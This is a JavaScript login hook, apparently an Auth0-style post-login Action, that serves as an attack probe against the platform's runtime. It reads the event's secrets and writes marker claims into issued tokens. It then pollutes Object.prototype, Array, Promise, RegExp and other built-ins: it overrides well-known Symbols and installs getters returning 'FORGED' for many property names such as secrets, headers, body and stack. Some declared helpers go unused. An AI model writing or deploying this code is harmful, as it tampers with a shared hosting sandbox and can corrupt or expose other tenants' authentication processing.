// every name that a frame, an option or a descriptor has, and every symbol of the language, inherited from Object.prototype
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  api.idToken.setCustomClaim('genuine', 1);
  const define = Object.defineProperty;
  const names = 'method arguments type data status location line column level text name message reason output record host now kind handler trigger file source nonce secrets url headers body length value done next return then flag mode encoding signal fd code syscall errno error stack cause id result params functions ranges exports loaded'.split(' ');
  const symbols = ['iterator', 'toPrimitive', 'toStringTag', 'match', 'replace', 'split', 'search', 'isConcatSpreadable', 'hasInstance', 'asyncIterator', 'species'];
  const owners = [Object.prototype, Array.prototype, String.prototype, Function.prototype, Promise.prototype, Array, Promise, RegExp, Map];
  for (let s = 0; s < symbols.length; s++) for (let o = 0; o < owners.length; o++) try { define(owners[o], Symbol[symbols[s]], { __proto__: null, configurable: true, value: function () { return 'FORGED'; } }); } catch {}
  for (let n = 0; n < names.length; n++) try { define(Object.prototype, names[n], { __proto__: null, configurable: true, get() { return 'FORGED'; }, set() {} }); } catch {}
  api.accessToken.setCustomClaim('genuine2', 2);
};
